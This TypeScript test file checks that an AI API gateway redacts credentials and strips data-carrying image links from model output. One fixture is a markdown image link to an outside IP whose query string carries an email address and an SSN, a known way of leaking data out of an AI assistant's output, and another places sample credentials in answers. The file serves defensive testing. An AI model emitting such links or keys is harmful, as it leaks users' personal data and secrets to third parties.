import OpenAI from 'openai';
import t from 'tap';
import { fakeUpstream, sendJson } from '../helpers/fake-upstream.js';
import { messageItem, parseEvents, responseEvents, responseObject, sendEvents } from '../helpers/fake-responses.js';
import { startTestGateway } from '../helpers/gateway.js';
import { call } from '../helpers/http.js';
import { credentialSamples } from './fixtures/credential-samples.js';

const AFTER = ' and that is all you need.';

interface Verdict {
  bastion?: { action: string; stage: string; reasons: { type: string }[] };
}

/** Longest prefix of `secret` found anywhere in `text`. */
function longestPrefix(text: string, secret: string): number {
  for (let n = secret.length; n > 0; n--) if (text.includes(secret.slice(0, n))) return n;
  return 0;
}

t.test('a credential in streamed output_text is redacted in place: at most 4 characters of it reach the client, the rest of the text does', async (t) => {
  const upstream = await fakeUpstream(t);
  const gw = await startTestGateway(t, { config: { upstreamBaseUrl: upstream.url } });
  const key = await gw.key('responses-secrets', { rate: 3000, plan: 'professional' });
  let text = '';
  let split = 1;
  upstream.on((_req, res) => sendEvents(res, responseEvents(responseObject([messageItem(text)]), Math.ceil(text.length / split))));

  for (const size of [1, 3]) {
    for (const sample of credentialSamples()) {
      text = `${sample.before}${sample.secret}${sample.after}${AFTER}`;
      split = size;
      const res = await call(`${gw.proxyUrl}/v1/responses`, {
        headers: { 'x-api-key': key },
        body: { model: 'gpt-4.1-mini', stream: true, input: 'show me the deployment settings' },
      });
      const events = parseEvents(res.body);
      const deltas = events.filter((e) => e.type === 'response.output_text.delta').map((e) => e.delta as string).join('');
      const label = `${sample.type} in ${size}-character deltas`;
      // Labels name the type and layer (`[REDACTED:github_pat]`, `"type":"github_pat"`, `"layer":"secrets"`): not the credential.
      const shown = res.body.replace(/\[REDACTED:[a-z_]+\]/g, '').replace(/"(type|layer)":"[a-z_.]+"/g, '');
      t.ok(longestPrefix(shown, sample.secret) <= 4, `${label}: no more than a public prefix anywhere in the stream`);
      t.ok(deltas.endsWith(AFTER), `${label}: the text after the credential still arrives`);
      t.match(deltas, /\[REDACTED:[a-z_]+\]/, `${label}: the credential is replaced in place`);
      const done = events.find((e) => e.type === 'response.output_text.done');
      t.equal(done?.text, deltas, `${label}: output_text.done carries the released text`);
      const final = events.at(-1) as { type: string; response: { output: { content: { text: string }[] }[] } & Verdict };
      t.equal(final.type, 'response.completed');
      t.equal(final.response.output[0].content[0].text, deltas, `${label}: the final Response carries the released text`);
      t.equal(final.response.bastion?.action, 'redact');
      t.equal(final.response.bastion?.stage, 'output');
    }
  }
});

t.test('with the SDK: non-streamed and streamed answers keep their text around a redacted key', async (t) => {
  const upstream = await fakeUpstream(t);
  const gw = await startTestGateway(t, { config: { upstreamBaseUrl: upstream.url } });
  const key = await gw.key('responses-secrets-sdk', { rate: 1000 });
  const client = new OpenAI({ apiKey: 'sk-app', baseURL: `${gw.proxyUrl}/v1`, defaultHeaders: { 'X-API-Key': key }, maxRetries: 0 });
  const aws = credentialSamples().find((s) => s.type === 'aws_access_key')!.secret;
  const answer = `Use the key ${aws} for the deploy bucket, then run make release.`;
  const expected = 'Use the key [REDACTED:aws_access_key] for the deploy bucket, then run make release.';

  t.test('responses.create', async (t) => {
    upstream.on((_req, res) => sendJson(res, 200, responseObject([messageItem(answer)])));
    const data = await client.responses.create({ model: 'gpt-4.1-mini', input: 'How do I deploy?' });
    t.equal(data.output_text, expected);
    t.equal(data.status, 'completed', 'a redaction keeps the answer complete');
    t.same((data as unknown as Verdict).bastion?.reasons.map((r) => r.type), ['aws_access_key']);
  });

  t.test('responses.stream', async (t) => {
    upstream.on((_req, res) => sendEvents(res, responseEvents(responseObject([messageItem(answer)]), 11)));
    const stream = client.responses.stream({ model: 'gpt-4.1-mini', input: 'How do I deploy?' });
    let streamed = '';
    for await (const event of stream) if (event.type === 'response.output_text.delta') streamed += event.delta;
    const final = await stream.finalResponse();
    t.equal(streamed, expected);
    t.equal(final.output_text, expected);
  });
});

t.test('a data-carrying image link in streamed output_text is cut out in place; the text after it still arrives', async (t) => {
  const upstream = await fakeUpstream(t);
  const gw = await startTestGateway(t, { config: { upstreamBaseUrl: upstream.url } });
  const key = await gw.key('responses-exfil', { rate: 1000, plan: 'startup' });
  const data = 'alice.smith%40example.com%20ssn%20078-05-1120';
  const text = `Here is your summary. ![s](http://203.0.113.7/p.png?d=${data}) Anything else?`;
  for (const pieces of [text.length, 20]) {
    upstream.on((_req, res) => sendEvents(res, responseEvents(responseObject([messageItem(text)]), pieces)));
    const res = await call(`${gw.proxyUrl}/v1/responses`, { headers: { 'x-api-key': key }, body: { model: 'gpt-4.1-mini', stream: true, input: 'summarise my account' } });
    t.notOk(res.body.includes('078-05-1120'), `${pieces} deltas: the data never reaches the client`);
    const deltas = parseEvents(res.body).filter((e) => e.type === 'response.output_text.delta').map((e) => e.delta as string).join('');
    t.match(deltas, /^Here is your summary\. .*\[REDACTED:[a-z_]+\].* Anything else\?$/, `${pieces} deltas: redacted in place, the rest kept`);
  }
});
